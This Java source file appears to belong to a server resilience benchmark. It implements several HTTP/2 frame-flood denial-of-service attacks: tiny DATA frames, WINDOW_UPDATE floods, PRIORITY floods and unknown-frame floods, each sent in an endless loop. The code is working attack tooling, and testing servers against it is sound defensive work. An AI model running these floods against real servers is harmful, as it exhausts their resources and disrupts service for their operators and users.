package dev.holdfast.bench.attacks;

import java.io.IOException;

/** The attacks that consist of many small HTTP/2 frames. */
final class FrameAttacks {
  private static final int BATCH = 4_096;
  private static final int MESSAGE_BYTES = 4_000_000;

  private FrameAttacks() {}

  /** Within all windows, so that nothing is wrong but their size. */
  static void tinyData(AttackTarget attackTarget) throws IOException, InterruptedException {
    try (Http2Client client = attackTarget.http2()) {
      client.awaitSettings();
      byte[] one = Http2Frames.frame(Http2Frames.DATA, 0, 1, new byte[1]);
      byte[] batch = Http2Frames.repeated(one, BATCH);
      while (true) {
        int stream = client.stream();
        byte[] begin =
            Http2Frames.joined(
                Http2Frames.frame(
                    Http2Frames.HEADERS,
                    Http2Frames.END_HEADERS,
                    stream,
                    Http2Frames.call(AttackTarget.CALL)),
                Http2Frames.frame(Http2Frames.DATA, 0, stream, Http2Frames.prefix(MESSAGE_BYTES)));
        client.awaitWindow(stream, Http2Frames.prefix(0).length);
        client.write(begin, begin.length, 2);
        Http2Frames.move(batch, 0, batch.length, stream);
        int left = MESSAGE_BYTES;
        while (left > BATCH && client.awaitWindow(stream, BATCH)) {
          client.write(batch, batch.length, BATCH);
          left -= BATCH;
        }
        if (left <= BATCH) {
          byte[] end =
              Http2Frames.frame(
                  Http2Frames.RST_STREAM, 0, stream, Http2Frames.number(Http2Frames.CANCEL));
          client.write(end, end.length, 1);
          client.forget(stream);
        }
      }
    }
  }

  static void windowUpdates(AttackTarget attackTarget) throws IOException, InterruptedException {
    // Room for as many as there may be.
    try (Http2Client client = attackTarget.http2WithoutWindow()) {
      client.awaitSettings();
      int stream = client.stream();
      begin(client, stream);
      flood(client, Http2Frames.windowUpdate(stream, 1));
    }
  }

  static void priorities(AttackTarget attackTarget) throws IOException, InterruptedException {
    try (Http2Client client = attackTarget.http2()) {
      client.awaitSettings();
      int stream = client.stream();
      begin(client, stream);
      byte[] dependency = {0, 0, 0, 0, 16};
      flood(client, Http2Frames.frame(Http2Frames.PRIORITY, 0, stream + 2, dependency));
    }
  }

  static void unknownFrames(AttackTarget attackTarget) throws IOException, InterruptedException {
    try (Http2Client client = attackTarget.http2()) {
      client.awaitSettings();
      flood(client, Http2Frames.frame(Http2Frames.UNKNOWN, 0, 0, new byte[1]));
    }
  }

  /** A call under way, beside which frames come. */
  private static void begin(Http2Client client, int stream) throws IOException {
    byte[] begin =
        Http2Frames.frame(
            Http2Frames.HEADERS,
            Http2Frames.END_HEADERS,
            stream,
            Http2Frames.call(AttackTarget.CALL));
    client.write(begin, begin.length, 1);
  }

  private static void flood(Http2Client client, byte[] frame) throws IOException {
    byte[] batch = Http2Frames.repeated(frame, BATCH);
    while (true) {
      client.write(batch, batch.length, BATCH);
    }
  }
}
